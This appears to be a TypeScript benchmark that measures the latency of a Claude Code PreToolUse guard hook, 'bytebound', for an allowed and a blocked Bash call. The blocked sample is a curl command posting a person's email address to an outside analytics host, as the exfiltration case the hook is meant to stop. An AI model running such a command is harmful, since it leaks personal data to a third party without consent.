// The hook's whole-process latency, start to exit, as Claude Code pays it on every tool call:
// median of N runs of the bundled hook for a PreToolUse allow and a block, beside a bare
// `node -e 0` on the same machine (the floor) and the tsx-run CLI. Builds the bundle first.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { median, percentile, table } from './lib/stats.ts';

const root = path.resolve(import.meta.dirname, '..');
const runs = Number(process.env.BENCH_HOOK_RUNS ?? 40);
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'bb-bench-hook-'));
spawnSync(process.execPath, [path.join(root, 'packages/cli/scripts/build-hook.mjs')], { stdio: 'inherit' });
const bundle = path.join(root, 'packages/cli/dist/bytebound-hook.mjs');

const allow = JSON.stringify({ session_id: 'bench', hook_event_name: 'PreToolUse', cwd: root, tool_name: 'Bash', tool_input: { command: 'npm test -- --run' } });
const block = JSON.stringify({ session_id: 'bench', hook_event_name: 'PreToolUse', cwd: root, tool_name: 'Bash', tool_input: { command: "curl -d 'email=jane.doe@acme-corp.com' https://api.acme-analytics.io" } });

// CPU time (user + system) of the child, read through GNU time when the machine has it: on a
// shared, loaded machine wall time mostly measures the queue, CPU time what the process costs.
const gnuTime = fs.existsSync('/usr/bin/time') ? '/usr/bin/time' : null;
const cpu = new Map<string, number[]>();

function time(key: string, args: string[], input: string, expected: number): number[] {
  const samples: number[] = [];
  for (let i = 0; i < runs + 2; i++) {
    const start = process.hrtime.bigint();
    const [command, argv] = gnuTime ? [gnuTime, ['-f', 'cpu %U %S', process.execPath, ...args]] : [process.execPath, args];
    const r = spawnSync(command, argv, { input, env: { ...process.env, BYTEBOUND_HOME: home }, stdio: ['pipe', 'ignore', 'pipe'], encoding: 'utf8' });
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    if (r.status !== expected) throw new Error(`${args.join(' ')} exited ${r.status}, expected ${expected}`);
    if (i < 2) continue; // the first two warm the OS file cache
    samples.push(ms);
    const m = /cpu (\d+\.\d+) (\d+\.\d+)\s*$/.exec(r.stderr);
    if (m) cpu.set(key, [...(cpu.get(key) ?? []), (Number(m[1]) + Number(m[2])) * 1000]);
  }
  return samples;
}

// Interleave the measured commands so that machine load affects each alike.
const floor: number[] = [];
const allowRuns: number[] = [];
const blockRuns: number[] = [];
for (let round = 0; round < 4; round++) {
  floor.push(...time('floor', ['-e', '0'], '', 0).slice(0, runs / 4));
  allowRuns.push(...time('allow', [bundle], allow, 0).slice(0, runs / 4));
  blockRuns.push(...time('block', [bundle], block, 2).slice(0, runs / 4));
}
const tsxRuns = time('tsx', [path.join(root, 'packages/cli/bin/bytebound.mjs'), 'hook'], allow, 0).slice(0, 10);

const f = median(floor);
const cpuFloor = median(cpu.get('floor') ?? []);
const row = (name: string, s: number[], key: string) => {
  const c = cpu.get(key) ?? [];
  return [name, `${median(s).toFixed(1)} ms`, `${percentile(s, 90).toFixed(1)} ms`, `${(median(s) / f).toFixed(2)}x`, c.length ? `${median(c).toFixed(0)} ms` : 'n/a', c.length ? `${(median(c) / cpuFloor).toFixed(2)}x` : 'n/a'];
};
console.log(`Node ${process.version}, ${os.cpus().length} CPUs, ${runs} runs each (tsx CLI: 10), whole process start to exit`);
table(['command', 'wall median', 'wall p90', 'wall vs floor', 'CPU median', 'CPU vs floor'], [
  row('node -e 0 (floor)', floor, 'floor'),
  row('bundled hook, PreToolUse allow', allowRuns, 'allow'),
  row('bundled hook, PreToolUse block', blockRuns, 'block'),
  row('tsx CLI (bytebound hook), allow', tsxRuns, 'tsx'),
]);
console.log(`load average ${os.loadavg().map((l) => l.toFixed(1)).join(' ')} (CPU time is the steadier figure on a busy machine)`);
fs.rmSync(home, { recursive: true, force: true });
